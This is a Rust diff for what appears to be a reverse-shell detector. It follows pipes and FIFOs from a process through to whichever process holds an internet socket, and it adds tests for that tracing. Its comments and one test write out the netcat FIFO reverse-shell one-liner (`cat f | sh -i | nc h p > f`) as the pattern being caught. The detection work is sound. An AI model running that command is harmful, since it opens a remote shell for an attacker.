@@ -68,6 +68,31 @@ pub fn socket_inodes(root: &Path, pid: i32) -> Vec<u64> {
         .collect()
 }
 
+/// Every pipe and FIFO `pid` holds, on any descriptor (bounded by [`FDS_MAX_PER_PROCESS`]): how a
+/// chain continues through a process that reads a FIFO by name (`cat /tmp/f | sh`).
+pub fn pipe_ids(root: &Path, pid: i32) -> Vec<PipeId> {
+    let dir = root.join(pid.to_string()).join("fd");
+    let Ok(entries) = std::fs::read_dir(&dir) else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    for e in entries.take(FDS_MAX_PER_PROCESS).flatten() {
+        let path = e.path();
+        let Ok(link) = std::fs::read_link(&path) else { continue };
+        let link = link.to_string_lossy();
+        if !(link.starts_with("pipe:[") || link.starts_with('/')) {
+            continue;
+        }
+        if let Ok(m) = std::fs::metadata(&path) {
+            let id = PipeId { dev: m.dev(), ino: m.ino() };
+            if m.file_type().is_fifo() && !out.contains(&id) {
+                out.push(id);
+            }
+        }
+    }
+    out
+}
+
 /// Who holds each pipe or FIFO as stdin or stdout, built from one pass's stdio reads.
 #[derive(Debug, Default)]
 pub struct PipeHolders {
@@ -105,15 +130,17 @@ impl PipeHolders {
     }
 
     /// Follows `pipe` (one of `from`'s standard descriptors) through the processes holding its other
-    /// end as *their* stdin or stdout, and on through their other standard pipe, until one of them
-    /// holds a connected internet socket (`remote_socket_of`). A relay is a process whose stdio is
-    /// the pipe: a server that merely reads a child's output through an fd of its own (subprocess
-    /// with capture) is not one, which keeps a web server's client sockets out of this.
+    /// end as *their* stdin or stdout, and on through the other pipes and FIFOs they hold
+    /// (`pipes_of`), until one of them holds a connected internet socket (`remote_socket_of`). A
+    /// relay is a process whose stdio is the pipe: a server that merely reads a child's output
+    /// through an fd of its own (subprocess with capture) is not one, which keeps a web server's
+    /// client sockets out of this.
     pub fn find_relay(
         &self,
         from: i32,
         pipe: PipeId,
         mut remote_socket_of: impl FnMut(i32) -> Option<String>,
+        mut pipes_of: impl FnMut(i32) -> Vec<PipeId>,
     ) -> Option<Relay> {
         let mut frontier = vec![(pipe, from)];
         let mut visited = vec![pipe];
@@ -129,11 +156,16 @@ impl PipeHolders {
                     if let Some(peer) = remote_socket_of(pid) {
                         return Some(Relay { pid, peer, hops });
                     }
-                    // Continue through the descriptor on the other side of this process.
+                    // Continue through the descriptor on the other side of this process, and any
+                    // pipe or FIFO it opened by name.
                     let other = self.ends.get(&pid).and_then(|e| e[1 - usize::from(fd)]);
-                    if let Some(o) = other.filter(|o| !visited.contains(o)) {
-                        visited.push(o);
-                        next.push((o, pid));
+                    let mut onward: Vec<PipeId> = other.into_iter().collect();
+                    onward.extend(pipes_of(pid));
+                    for o in onward {
+                        if !visited.contains(&o) {
+                            visited.push(o);
+                            next.push((o, pid));
+                        }
                     }
                 }
             }
@@ -175,20 +207,34 @@ mod tests {
     fn follows_pipes_and_fifos_to_the_socket_holder() {
         let h = fifo_shell();
         let sock = |pid: i32| (pid == 12).then(|| "tcp 1.2.3.4:5->6.7.8.9:4444 ESTABLISHED".to_string());
-        let stdout = h.find_relay(10, PipeId { dev: 9, ino: 2 }, sock).unwrap();
+        let stdout = h.find_relay(10, PipeId { dev: 9, ino: 2 }, sock, |_| vec![]).unwrap();
         assert_eq!((stdout.pid, stdout.hops), (12, 1));
-        let stdin = h.find_relay(10, PipeId { dev: 9, ino: 1 }, sock).unwrap();
+        let stdin = h.find_relay(10, PipeId { dev: 9, ino: 1 }, sock, |_| vec![]).unwrap();
         assert_eq!((stdin.pid, stdin.hops), (12, 2), "through cat and the fifo");
     }
 
     #[test]
     fn no_relay_without_a_socket_or_through_non_stdio_holders() {
         let h = fifo_shell();
-        assert_eq!(h.find_relay(10, PipeId { dev: 9, ino: 1 }, |_| None), None);
+        assert_eq!(h.find_relay(10, PipeId { dev: 9, ino: 1 }, |_| None, |_| vec![]), None);
         // A server (20) reading a child's (21) output through fd 7 is not in the holders at all.
         let mut h = PipeHolders::default();
         h.add(21, &[None, fd("pipe:[5]", Some(5)), None]);
-        assert_eq!(h.find_relay(21, PipeId { dev: 9, ino: 5 }, |_| Some("tcp x".into())), None);
+        assert_eq!(h.find_relay(21, PipeId { dev: 9, ino: 5 }, |_| Some("tcp x".into()), |_| vec![]), None);
+    }
+
+    #[test]
+    fn follows_a_fifo_opened_by_name() {
+        // `cat f | sh -i | nc h p > f`: cat(11) reads the FIFO through fd 3, not its stdin.
+        let mut h = PipeHolders::default();
+        h.add(10, &[fd("pipe:[1]", Some(1)), fd("pipe:[2]", Some(2)), None]);
+        h.add(11, &[fd("/dev/null", None), fd("pipe:[1]", Some(1)), None]);
+        h.add(12, &[fd("pipe:[2]", Some(2)), fd("/tmp/f", Some(3)), None]);
+        let sock = |pid: i32| (pid == 12).then(|| "tcp x".to_string());
+        let by_name = |pid: i32| if pid == 11 { vec![PipeId { dev: 9, ino: 3 }] } else { vec![] };
+        let r = h.find_relay(10, PipeId { dev: 9, ino: 1 }, sock, by_name).unwrap();
+        assert_eq!((r.pid, r.hops), (12, 2));
+        assert_eq!(h.find_relay(10, PipeId { dev: 9, ino: 1 }, sock, |_| vec![]), None);
     }
 
     #[test]
